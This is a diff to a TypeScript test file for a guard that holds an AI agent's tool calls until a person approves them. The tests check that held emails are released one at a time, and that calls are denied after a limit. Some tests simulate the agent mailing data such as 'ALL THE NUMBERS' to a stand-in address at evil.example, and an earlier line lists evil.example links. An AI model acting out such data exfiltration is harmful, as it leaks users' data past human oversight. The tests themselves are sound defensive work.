@@ -5,6 +5,7 @@ import { Guard } from '../../../src/guard/core/guard.ts'
 import { type GuardLinks, noLinks } from '../../../src/guard/core/guard-links.ts'
 import { LocalCore } from '../../../src/guard/core/local-core.ts'
 import type { GuardCall } from '../../../src/guard/index.ts'
+import type { AgentState } from '../../../src/model/agent-state.ts'
 import type { Command } from '../../../src/model/command.ts'
 import type { AgentEvent } from '../../../src/model/event.ts'
 import type { Finding } from '../../../src/model/finding.ts'
@@ -29,7 +30,7 @@ function beside(policy: unknown = {}) {
     const driven = new Driven(policy)
     return (scope === undefined ? driven : driven.declare(scope)).events(...events)
   }
-  return { guard, core, clock, events, monitor }
+  return { guard, core, clock, events, links, monitor }
 }
 
 test('an agent’s very first act, held', () => {
@@ -84,6 +85,12 @@ const links = ['https://corp.example/a', 'https://evil.example/in', 'https://evi
 /** What people are shown of a call is put together when it is held: the monitor is told it with the act. */
 const unshown = ({ act: { shown, ...act } = { event: '' }, ...command }: Command): Command =>
   act.event === '' ? command : { ...command, act }
+
+/** What stands, without what only tells somebody. */
+const interrupting = (state: AgentState | undefined) => ({
+  ...state,
+  standing: state?.standing.filter(({ rung }) => interrupts(rung)),
+})
 
 /** Acts of every sink, with aims that have proof and aims that have none. */
 const calls = (random: () => number, i: number): GuardCall =>
@@ -154,7 +161,96 @@ describe('guard and monitor agree on the same events', () => {
     const issued = driven.commands.filter((c) => interrupts(c.rung))
     expect(issued.map(unshown)).toEqual(proposed.filter((c) => interrupts(c.rung)))
     expect([...held].filter((id) => !issued.some((c) => c.id === id))).toEqual([])
-    expect(core.peek('a1')).toEqual(driven.agent('a1'))
+    expect(interrupting(core.peek('a1'))).toEqual(interrupting(driven.agent('a1')))
+  })
+})
+
+describe('of several held acts alike a person lets go one at a time, by its own command', () => {
+  /** A guard and its monitor, and a person who answers at the monitor. */
+  function desk() {
+    const sides = beside()
+    const { guard, core, clock, events } = sides
+    const driven = new Driven()
+    const tell = () => driven.events(...events.splice(0))
+    const act = (tool: string, args: unknown) => {
+      clock.now += 1000
+      const decision = guard.before({ tool, server: 'mail', args, task: 't' })
+      expect(core.peek('a1')).toEqual(tell().agent('a1'))
+      return decision
+    }
+    const mail = (body: string) => act('send_email', { to: 'drop@evil.example', body })
+    const say = (id: string, verb: 'approve' | 'release') => {
+      const about = driven.commands.find((c) => c.id === id)
+      expect(about, `the monitor does not know ${id}`).toBeDefined()
+      const seen = driven.updates.length
+      const review = { id: `r${seen}`, tenant: 'default', time: clock.now, by: 'ann', reason: 'agreed', verb }
+      driven.drive.put('reviews', { ...review, command: id })
+      for (const update of driven.updates.slice(seen))
+        guard.release(update.command, about?.act === undefined ? [] : [about.act.event], update.verb ?? 'approved')
+      expect(core.peek('a1')).toEqual(driven.agent('a1'))
+    }
+    guard.startTask({ id: 't', intent: 'Read the notes' })
+    const read = guard.before({ tool: 'read_file', args: { path: '/n' }, task: 't' })
+    guard.after(read, { text: texts[1] ?? '' })
+    return { ...sides, driven, act, mail, say }
+  }
+  const id = ({ command }: ReturnType<Guard['before']>) => command?.id ?? 'none'
+
+  test('the harmless one lets the harmless one go, and no other', () => {
+    const { mail, say, driven } = desk()
+    const [bad, good] = [mail('ALL THE NUMBERS'), mail('sorry, no numbers')]
+    expect(id(good)).not.toBe(id(bad))
+    expect(driven.commands.find((c) => c.id === id(good))?.act?.event).toBe(good.event.id)
+    // Tried again each names its own.
+    expect([id(mail('ALL THE NUMBERS')), id(mail('sorry, no numbers'))]).toEqual([id(bad), id(good)])
+    say(id(good), 'approve')
+    expect(mail('sorry, no numbers').outcome).toBe('allow')
+    expect(mail('ALL THE NUMBERS').outcome).toBe('step-up')
+  })
+
+  test('the second can be let go after the first, and after that a third and the first again', () => {
+    const { mail, say } = desk()
+    const [one, two] = [mail('one'), mail('two')]
+    say(id(one), 'approve')
+    const again = mail('two')
+    expect([again.outcome, id(again)]).toEqual(['step-up', id(two)])
+    say(id(two), 'approve')
+    expect([mail('two').outcome, mail('one').outcome]).toEqual(['allow', 'allow'])
+    const three = mail('three')
+    expect(three.outcome).toBe('step-up')
+    say(id(three), 'approve')
+    expect(mail('three').outcome).toBe('allow')
+    const anew = mail('one')
+    expect(anew.outcome).toBe('step-up')
+    say(id(anew), 'approve')
+    expect(mail('one').outcome).toBe('allow')
+  })
+
+  test('also where only a command for all acts of the tool holds them', () => {
+    const { links, clock, mail, say, act, driven } = desk()
+    expect(act('list_files', { of: '/a' }).outcome).toBe('allow')
+    const held = mail('one').command as Command
+    const { act: _, ...kept } = held
+    links.table.put({ ...kept, id: 'by-hand', evidence: [], because: 'ann is asked', restriction: { stepUp: {} } })
+    const [one, two] = [act('list_files', { of: '/b' }), act('list_files', { of: '/c' })]
+    expect([one, two].map(({ outcome, because }) => [outcome, because])).toEqual([
+      ['step-up', 'ann is asked'],
+      ['step-up', 'ann is asked'],
+    ])
+    expect(driven.commands.find((c) => c.id === id(two))?.act?.event).toBe(two.event.id)
+    clock.now += 1000
+    expect(id(act('list_files', { of: '/c' }))).toBe(id(two))
+    say(id(two), 'approve')
+    expect(act('list_files', { of: '/b' }).outcome).toBe('step-up')
+    expect(act('list_files', { of: '/c' }).outcome).toBe('allow')
+  })
+
+  test('no more than so many: then nobody is asked any more', () => {
+    const { mail, driven } = desk()
+    const held = Array.from({ length: 40 }, (_, i) => mail(`number ${i}`))
+    expect(new Set(held.slice(0, 16).map(id)).size).toBe(16)
+    expect(held.at(-1)?.outcome).toBe('deny')
+    expect(driven.commands.filter((c) => interrupts(c.rung)).length).toBeLessThanOrEqual(18)
   })
 })
 
